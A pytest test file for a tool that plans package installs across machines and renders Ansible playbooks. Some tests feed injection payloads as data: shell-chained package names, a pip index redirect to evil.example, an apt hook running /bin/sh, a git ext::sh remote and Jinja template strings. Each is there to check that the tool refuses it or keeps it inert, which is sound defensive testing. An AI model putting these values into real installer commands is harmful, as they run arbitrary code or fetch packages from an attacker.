"""Plan: ordering, approval, untrusted names refused, generated playbook is plain data."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cyclotron_py import install_play
from cyclotron_py import plan as plan_mod
from cyclotron_py.catalog import load_catalog
from cyclotron_py.cli import main
from cyclotron_py.errors import PlanError
from cyclotron_py.plan import build_plan, render_playbook, write_plan

CATALOG = load_catalog()


def rec(cap_id, manager, package, *, type_="python_package", risk="low", priority="normal", **extra):
    base = {
        "id": cap_id, "name": package, "type": type_, "domain": "development", "priority": priority,
        "risk": risk, "manager": manager, "package": package, "version": None, "reason": "missing",
        "from_host": "pc1", "pinned": False, "details": {},
    }
    base.update(extra)
    return base


MCP_DETAILS = {
    "transport": "stdio", "command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"],
    "url": "", "env_names": [], "configured_in": [{"assistant": "claude_code", "scope": "user", "path": "x"}],
    "package": {"manager": "npm", "name": "@modelcontextprotocol/server-memory", "version": ""},
}


def test_order_runtime_first_then_packages_then_mcp():
    plan = build_plan(
        {"pc2": [
            rec("mcp:memory", "mcp", "memory", type_="mcp_server", details=MCP_DETAILS),
            rec("npm:is-number", "npm", "is-number", type_="npm_package"),
            rec("nodejs", "apt", "nodejs", type_="software", priority="high"),
            rec("pip:six", "pip", "six"),
        ]},
        {"pc2": "linux"}, CATALOG, approve="all",
    )
    host = plan.hosts[0]
    assert [i.id for i in host.items] == ["nodejs", "pip:six", "npm:is-number", "mcp:memory"]
    assert host.items[2].requires == ["nodejs"]
    assert host.items[3].mcp["expected_tools"][0] == "create_entities"


@pytest.mark.parametrize(
    ("mode", "installed", "waiting"),
    [("all", 3, 0), ("low-risk", 1, 2), ("none", 0, 3)],
)
def test_approval_modes(mode, installed, waiting):
    plan = build_plan(
        {"pc2": [rec("pip:six", "pip", "six"), rec("jq", "apt", "jq", risk="medium"),
                 rec("api_key:K", "env", "K", type_="api_key", risk="high")]},
        {"pc2": "linux"}, CATALOG, approve=mode,
    )
    assert (len(plan.hosts[0].items), len(plan.hosts[0].awaiting_approval)) == (installed, waiting)


@pytest.mark.parametrize(
    ("manager", "package"),
    [
        ("pip", "foo; touch /tmp/pwned"),
        ("pip", "--index-url=http://evil.example/simple"),
        ("npm", "$(reboot)"),
        ("apt", "-o APT::Update::Pre-Invoke::=/bin/sh"),
        ("winget", "Foo.Bar && calc"),
        ("env", "NAME=value"),
    ],
)
def test_untrusted_names_are_refused(manager, package):
    """A refused name never reaches an installer; the item is unportable with the reason, the rest is planned."""
    plan = build_plan(
        {"pc2": [rec(f"x:{manager}", manager, package), rec("pip:six", "pip", "six")],
         "pc3": [rec("pip:six", "pip", "six")]},
        {"pc2": "linux", "pc3": "linux"}, CATALOG, approve="all",
    )
    pc2, pc3 = plan.hosts
    assert [i.id for i in pc2.items] == ["pip:six"] and [i.id for i in pc3.items] == ["pip:six"]
    assert [u["id"] for u in pc2.unportable] == [f"x:{manager}"]
    assert "plan for pc2" in pc2.unportable[0]["reason"] and package not in render_playbook(plan)


def test_git_remote_with_transport_helper_is_refused():
    plan = build_plan({"pc2": [rec("git:x", "git", "ext::sh -c touch% /tmp/pwned", type_="git_repo")]},
                      {"pc2": "linux"}, CATALOG, approve="all")
    assert plan.hosts[0].items == [] and "git remote" in plan.hosts[0].unportable[0]["reason"]


def test_a_manager_without_an_installer_is_unportable_with_the_reason():
    """One host's item that nothing installs never aborts the plan of the others."""
    plan = build_plan(
        {"pc1": [rec("registry:foo", "registry", "Foo", type_="software"), rec("jq", "apt", "jq", type_="software")],
         "pc2": [rec("pip:six", "pip", "six")]},
        {"pc1": "windows", "pc2": "linux"}, CATALOG, approve="all",
    )
    pc1, pc2 = plan.hosts
    assert [i.id for i in pc1.items] == ["jq"] and [i.id for i in pc2.items] == ["pip:six"]
    (entry,) = pc1.unportable
    assert entry["id"] == "registry:foo" and "no installer role for manager 'registry'" in entry["reason"]
    assert entry["gap"] == "missing" and set(entry) == {"id", "name", "type", "domain", "priority", "gap", "reason"}


def test_playbook_is_reviewable_yaml_and_plan_id_is_stable(tmp_path):
    recs = {"pc2": [rec("pip:six", "pip", "six", version="1.16.0")], "pc3": []}
    first = build_plan(recs, {"pc2": "linux", "pc3": "linux"}, CATALOG)
    again = build_plan(recs, {"pc2": "linux", "pc3": "linux"}, CATALOG)
    assert first.plan_id == again.plan_id
    plays = install_play.load(render_playbook(first))
    assert [p["hosts"] for p in plays] == ["pc2"]
    start, task = plays[0]["tasks"][:2]
    assert start["ansible.builtin.set_fact"] == {"cyclotron_outcomes": []}
    assert task["ansible.builtin.include_role"] == {"name": "cyclotron_pip"}
    assert task["vars"]["cyclotron_pip_items"][0]["package"] == "six"
    plan_path, playbook_path = write_plan(first, tmp_path / "plans", tmp_path / "generated")
    assert plan_path.name == f"{first.plan_id}.json" and playbook_path.exists()


def test_empty_plan_renders_a_parity_play():
    plan = build_plan({"pc1": []}, {"pc1": "linux"}, CATALOG)
    assert "parity" in render_playbook(plan)


def test_unknown_approval_mode():
    with pytest.raises(PlanError, match="approval mode"):
        build_plan({}, {}, CATALOG, approve="yolo")


def test_decisions_from_the_store_apply_to_the_same_wanted_version():
    recs = {"pc2": [rec("jq", "apt", "jq", type_="software", risk="high"),
                    rec("docker", "apt", "docker.io", type_="software", risk="high"),
                    rec("git", "apt", "git", type_="software", risk="high", version="2.43.0"),
                    rec("pip:six", "pip", "six")]}
    decisions = {"pc2": {
        "jq": {"state": "approved", "wanted_version": ""},
        "docker": {"state": "rejected", "wanted_version": "", "reason": "not on the laptop"},
        "git": {"state": "rejected", "wanted_version": "2.39.0"},  # rejected an older wanted version
    }}
    plan = build_plan(recs, {"pc2": "linux"}, CATALOG, approve="none", decisions=decisions)
    host = plan.hosts[0]
    assert [i.id for i in host.items] == ["jq"] and host.items[0].approval == "approved"
    assert [i.id for i in host.rejected] == ["docker"] and "not on the laptop" in host.rejected[0].approval
    assert sorted(i.id for i in host.awaiting_approval) == ["git", "pip:six"]


RPM_FLEET = Path(__file__).resolve().parents[1] / "fixtures" / "manifests" / "rpm_fleet"


def test_an_rpm_host_beside_a_debian_host_is_planned_through_dnf(tmp_path, capsys):
    """`cyclotron plan DIR` over a Fedora and a Debian manifest: the Fedora host's OS packages
    go through cyclotron_dnf, its pipx tool through the pip role's pipx variable."""
    assert main(["plan", str(RPM_FLEET), "--approve", "all", "--out", str(tmp_path), "--json"]) == 0
    plan = json.loads(capsys.readouterr().out)
    hosts = {h["host"]: h for h in plan["hosts"]}
    assert [(i["id"], i["manager"], i["role"]) for i in hosts["fedora1"]["items"]] == [
        ("jq", "rpm", "dnf"), ("ripgrep", "rpm", "dnf"), ("httpie", "pipx", "pip"),
    ]
    assert [(i["id"], i["role"]) for i in hosts["deb1"]["items"]] == [("tmux", "apt"), ("pip:requests", "pip")]
    # An rpm-only package cannot go to the Debian host; the plan says why instead of failing.
    assert [u["id"] for u in hosts["deb1"]["unportable"]] == ["rpm:dnf-plugins-core"]
    plays = install_play.load((tmp_path / "generated" / f"{plan['plan_id']}.yml").read_text())
    fedora = next(p for p in plays if p["hosts"] == "fedora1")
    by_role = {t["ansible.builtin.include_role"]["name"]: t["vars"] for t in fedora["tasks"]
               if "ansible.builtin.include_role" in t}
    assert [i["package"] for i in by_role["cyclotron_dnf"]["cyclotron_dnf_items"]] == ["jq", "ripgrep"]
    assert [i["package"] for i in by_role["cyclotron_pip"]["cyclotron_pip_pipx_items"]] == ["httpie"]
    assert "cyclotron_pip_items" not in by_role["cyclotron_pip"]


@pytest.mark.parametrize("name", ["six", "šest"])  # the digest's text through msgspec, and through json
def test_shared_items_give_the_models_plan_and_the_documented_id(name):
    """build_plan shares one checked item between hosts (and one copy per variant): the result is
    still what the pydantic models accept, each host's items are its own, and the plan id is the
    sha256 of json.dumps({approve, hosts}, sort_keys=True) of the plan's JSON form."""
    import hashlib

    from cyclotron_py.plan import Plan

    same = [rec("pip:six", "pip", "six", name=name), rec("nodejs", "apt", "nodejs", type_="software", risk="high"),
            rec("npm:is-number", "npm", "is-number", type_="npm_package")]
    distribution = {"pc1": same, "pc2": [dict(r) for r in same], "pc3": same[:1] + same[2:]}
    decisions = {"pc2": {"nodejs": {"state": "approved", "wanted_version": ""}}}
    plan = build_plan(distribution, {}, CATALOG, decisions=decisions)
    dumped = plan.model_dump(mode="json")
    assert Plan.model_validate(dumped) == plan
    # plans/<id>.json: the same plan read back, each item on a line of its own
    written = plan_mod.plan_json(plan)
    assert Plan.model_validate_json(written) == plan and json.loads(written) == dumped
    assert sum(line.lstrip().startswith(b'{"id": ') for line in written.splitlines()) == 8
    text = json.dumps({"approve": plan.approve, "hosts": dumped["hosts"]}, sort_keys=True)
    assert plan.plan_id == f"plan-{hashlib.sha256(text.encode()).hexdigest()[:12]}"
    pc1, pc2, pc3 = plan.hosts
    assert [i.id for i in pc1.items] == ["pip:six", "npm:is-number"] and pc1.items[0] is pc2.items[-2]
    assert [(i.id, i.approval) for i in pc1.awaiting_approval] == [("nodejs", "risk high needs cyclotron_approve=all")]
    assert [(i.id, i.approval) for i in pc2.items] == [("nodejs", "approved"), ("pip:six", ""), ("npm:is-number", "")]
    # npm:is-number requires nodejs where nodejs is planned too; not on pc3
    assert pc2.items[-1].requires == ["nodejs"] and pc3.items[-1].requires == []


def test_recommendations_made_afresh_for_each_host_are_each_planned():
    """build_plan finds a recommendation again by the object itself; one made afresh for each host
    (freed once its host is planned, so the next may get its address) is still its own item."""

    class Fresh(dict):
        def __getitem__(self, host):
            return iter([rec(f"pip:{host}", "pip", host)])

    hosts = [f"pc{n}" for n in range(50)]
    distribution = Fresh.fromkeys(hosts)
    plan = build_plan(distribution, {}, CATALOG, approve="all")
    assert [[i.package for i in h.items] for h in plan.hosts] == [[h] for h in sorted(hosts)]


def test_the_playbook_writes_items_hosts_share_in_full():
    git = rec("git", "apt", "git", type_="software")
    plan = build_plan({"a": [git], "b": [dict(git)]}, {"a": "linux", "b": "linux"}, CATALOG, approve="all")
    assert plan.hosts[0].items[0] is plan.hosts[1].items[0] and plan.hosts[0].items[0].verify
    text = render_playbook(plan)
    assert "&id" not in text and "*id" not in text
    assert text.count("\"verify\": ") == 2  # once in each host's play


def test_ansible_never_templates_what_a_manifest_wrote_into_the_playbook(tmp_path):
    """A capability's name comes from another machine's manifest: in the generated playbook it is
    data (!unsafe), so Ansible does not evaluate "{{ ... }}" in it (that would run a lookup on
    the controller). Checked with ansible-playbook itself, a stand-in role printing the name."""
    import subprocess
    import sys

    names = ["{{ 7 * 7 }}", "{% if true %}yes{% endif %}", "é\u2028x\x85"]
    recs = [rec(f"pip:pkg{n}", "pip", f"pkg{n}", name=name) for n, name in enumerate(names)]
    plan = build_plan({"pc2": recs}, {"pc2": "linux"}, CATALOG, approve="all")
    playbook = tmp_path / "generated.yml"
    playbook.write_text(render_playbook(plan), encoding="utf-8")
    stub = tmp_path / "roles" / "cyclotron_pip" / "tasks"
    stub.mkdir(parents=True)
    (stub / "main.yml").write_text(
        "- name: Show the names\n  ansible.builtin.debug:\n"
        "    msg: \"{{ cyclotron_pip_items | map(attribute='name') }}\"\n"
    )
    (tmp_path / "hosts").write_text(f"pc2 ansible_connection=local ansible_python_interpreter={sys.executable}\n")
    env = {"ANSIBLE_HOME": str(tmp_path / "ansible"), "PATH": "/usr/bin:/bin", "ANSIBLE_STDOUT_CALLBACK": "json",
           "ANSIBLE_ROLES_PATH": str(tmp_path / "roles")}
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "ansible-playbook"), "-i", "hosts", playbook.name],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-2000:]
    tasks = json.loads(proc.stdout)["plays"][0]["tasks"]
    shown = next(t for t in tasks if t["task"]["name"].endswith("Show the names"))
    assert shown["hosts"]["pc2"]["msg"] == names


def test_the_plan_id_text_takes_subclasses_of_plain_types():
    # In an action plugin, ansible-core 2.19 hands over tagged str/int subclasses.
    class Tagged(str):
        pass

    assert plan_mod._json_text({"a": Tagged("x"), "b": [Tagged("y")]}) == b'{"a": "x", "b": ["y"]}'
    tagged = {Tagged(k): Tagged(v) if isinstance(v, str) else v for k, v in rec("pip:six", "pip", "six").items()}
    plan = build_plan({Tagged("pc1"): [tagged]}, {}, CATALOG)
    assert json.loads(plan_mod.plan_json(plan))["hosts"][0]["items"][0]["package"] == "six"


def test_a_forked_child_writes_the_same_playbook(tmp_path, monkeypatch):
    """plan DIR writes the playbook in a forked child while it writes plans/<id>.json; with no
    child, or one that fails, this process writes it: the same two files every way."""
    from cyclotron_py import forked

    same = [rec("pip:six", "pip", "six"), rec("git", "apt", "git", type_="software", risk="high"),
            rec("mcp:memory", "mcp", "memory", type_="mcp_server", details=MCP_DETAILS)]
    plan = build_plan({"pc1": same, "pc2": same[:2]}, {}, CATALOG)
    serial = write_plan(plan, tmp_path / "one" / "plans", tmp_path / "one" / "generated")
    expected = [path.read_bytes() for path in serial]
    assert expected[0] == plan_mod.plan_json(plan) and expected[1] == render_playbook(plan).encode()
    monkeypatch.setattr(plan_mod, "PARALLEL_MIN_ITEMS", 0)
    real = forked.fork_call
    for n, fork in enumerate([real, lambda compute: None, lambda compute: real(lambda: 1 // 0)]):
        monkeypatch.setattr(plan_mod, "fork_call", fork)
        paths = write_plan(plan, tmp_path / str(n) / "plans", tmp_path / str(n) / "generated", parallel=True)
        assert [path.read_bytes() for path in paths] == expected
        assert sorted(p.name for p in (tmp_path / str(n)).rglob("*")) == sorted(
            ["plans", "generated", *(p.name for p in paths)]
        )  # no temp file left behind


def test_unportable_entries_of_another_mapping_type_become_plain_dicts():
    from types import MappingProxyType

    gap = {"id": "winget:x", "name": "x", "type": "software", "domain": "development", "priority": "normal",
           "gap": "missing", "reason": "winget-only"}
    plan = build_plan({"pc2": []}, {}, CATALOG, unportable={"pc2": [MappingProxyType(gap)]})
    assert plan.hosts[0].unportable == [gap] and type(plan.hosts[0].unportable[0]) is dict
    assert json.loads(plan_mod.plan_json(plan))["hosts"][0]["unportable"] == [gap]
